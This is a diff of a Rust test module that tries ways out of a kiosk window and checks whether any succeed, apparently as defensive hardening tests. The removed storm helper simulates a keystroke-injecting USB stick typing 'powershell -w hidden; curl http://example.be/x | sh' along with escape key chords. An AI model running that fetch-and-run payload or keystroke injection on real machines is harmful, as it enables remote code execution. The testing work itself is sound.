@@ -1,13 +1,11 @@
 //! Trying the ways out of the kiosk on the real window, and looking whether anything came of it.
 
 use crate::driver::{Driver, PATIENCE, press};
-use crate::screen::{Manager, place, size, told, until, windows, xdo};
+use crate::screen::{Manager, copy, pasted, place, size, storm, until, windows, xdo};
 use anyhow::{Context as _, ensure};
 use fantoccini::actions::{InputSource as _, MOUSE_BUTTON_LEFT, PointerAction, TouchActions};
 use fantoccini::{Client, Locator};
 use serde_json::Value;
-use std::io::Write as _;
-use std::process::{Command, Stdio};
 use std::time::Duration;
 use tempfile::TempDir;
 
@@ -250,7 +248,7 @@ impl Scene {
         self.window.release_actions().await?;
         // WebDriver moves one finger after the other; together they are told to the page itself.
         self.script(
-"const event = new Event('touchmove', { bubbles: true, cancelable: true });
+            "const event = new Event('touchmove', { bubbles: true, cancelable: true });
              Object.defineProperty(event, 'touches', { value: [{}, {}] });
              document.body.dispatchEvent(event);
              return event.defaultPrevented ? 'held' : 'zooms';",
@@ -397,42 +395,4 @@ fn finger(name: &str, way: &[(i64, i64)], slowly: Duration) -> TouchActions {
     finger.then(PointerAction::Up {
         button: MOUSE_BUTTON_LEFT,
     })
-}
-
-/// What a stick that says it is a keyboard would type: a thousand keys in a second or two, and the
-/// chords with which such sticks begin.
-fn storm() -> anyhow::Result<()> {
-    let words = "powershell -w hidden; curl http://example.be/x | sh; ".repeat(12);
-    xdo(&["type", "--delay", "1", &words])?;
-    for chord in [
-        "super+r",
-        "ctrl+alt+t",
-        "alt+F2",
-        "ctrl+shift+Escape",
-        "super+e",
-        "F1",
-    ] {
-        xdo(&["key", "--repeat", "25", "--delay", "1", chord])?;
-    }
-    Ok(())
-}
-
-fn copy(words: &str) -> anyhow::Result<()> {
-    for selection in ["clipboard", "primary"] {
-        let mut child = Command::new("xclip")
-            .args(["-in", "-selection", selection])
-            .stdin(Stdio::piped())
-            .stdout(Stdio::null())
-            .spawn()
-            .context("xclip is installed")?;
-        let input = child.stdin.as_mut().context("the input is piped")?;
-        input.write_all(words.as_bytes())?;
-        child.wait()?;
-    }
-    Ok(())
-}
-
-/// What a paste would bring.
-fn pasted() -> anyhow::Result<String> {
-    told("xclip", &["-out", "-selection", "clipboard"])
 }
